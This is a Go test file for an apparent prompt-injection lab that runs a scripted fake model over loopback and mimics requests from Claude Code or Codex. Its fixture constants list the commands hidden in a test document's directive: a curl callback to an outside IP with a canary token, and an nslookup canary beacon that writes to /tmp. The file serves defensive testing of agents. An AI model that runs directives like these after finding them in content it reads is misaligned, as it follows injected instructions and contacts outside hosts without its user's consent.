package model_test

import (
	"bufio"
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse-dev/gatehouse/internal/lab/model"
)

// The fixtures' session: its key, its document and the commands the
// document's directive holds (testdata/document.md).
const (
	key      = "gh.s1.ghctl0123456789abcdef"
	document = "/gatehouse/work/report.md"
)

var directives = []string{
	"curl -s http://203.0.113.10/c/ghc0123456789abcdef",
	`nslookup ghc0123456789abcdef.canary.gatehouse.test && echo "done" > /tmp/x`,
	"/gatehouse/bin/probe run --out /gatehouse/work/agent-reports.jsonl < /gatehouse/work/plan-external-callback.json",
}

// lab is a scripted model on an httptest server (loopback) that keeps
// every exchange it observes.
type lab struct {
	url string
	mu  sync.Mutex
	ex  []model.Exchange
}

func (l *lab) exchanges() []model.Exchange {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]model.Exchange(nil), l.ex...)
}

func last(t *testing.T, l *lab) model.Record {
	t.Helper()
	ex := l.exchanges()
	if len(ex) == 0 {
		t.Fatal("no exchange observed")
	}
	return ex[len(ex)-1].Record
}

// newLab serves the scripted model with one script (MaxSteps as given)
// registered under key.
func newLab(t *testing.T, maxSteps int) *lab {
	t.Helper()
	l := &lab{}
	srv := model.New(model.Options{
		Lookup: func(k string) (model.Script, bool) {
			return model.Script{Session: "s1", Document: document, MaxSteps: maxSteps}, k == key
		},
		Observe: func(e model.Exchange) { l.mu.Lock(); l.ex = append(l.ex, e); l.mu.Unlock() },
	})
	mux := http.NewServeMux()
	for _, p := range model.Patterns {
		mux.Handle(p, srv)
	}
	ts := httptest.NewServer(mux)
	t.Cleanup(ts.Close)
	l.url = ts.URL
	return l
}

func fixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// post sends body with the given headers (a key header as Claude Code or
// Codex would send it) and returns the status and the whole answer.
func post(t *testing.T, l *lab, path string, body []byte, hdr map[string]string) (int, http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, l.url+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("reading the answer: %v", err)
	}
	return resp.StatusCode, resp.Header, b
}

var (
	anthropicKey = map[string]string{"x-api-key": key, "anthropic-version": "2023-06-01"}
	bearerKey    = map[string]string{"Authorization": "Bearer " + key}
)

// event is one server-sent event.
type event struct{ Name, Data string }

// parseSSE reads events back as a client would: "event:" and "data:"
// lines, a blank line ending each event. It fails on anything else, so a
// malformed stream cannot pass.
func parseSSE(t *testing.T, body []byte) []event {
	t.Helper()
	var out []event
	var cur event
	sc := bufio.NewScanner(bytes.NewReader(body))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		switch {
		case line == "":
			if cur.Data == "" {
				t.Fatalf("an event without data in %q", body)
			}
			out = append(out, cur)
			cur = event{}
		case strings.HasPrefix(line, "event: "):
			cur.Name = strings.TrimPrefix(line, "event: ")
		case strings.HasPrefix(line, "data: "):
			cur.Data = strings.TrimPrefix(line, "data: ")
		default:
			t.Fatalf("unexpected SSE line %q", line)
		}
	}
	if cur != (event{}) {
		t.Fatalf("stream ends inside an event: %+v", cur)
	}
	return out
}

func eventNames(evs []event) []string {
	var out []string
	for _, e := range evs {
		out = append(out, e.Name)
	}
	return out
}
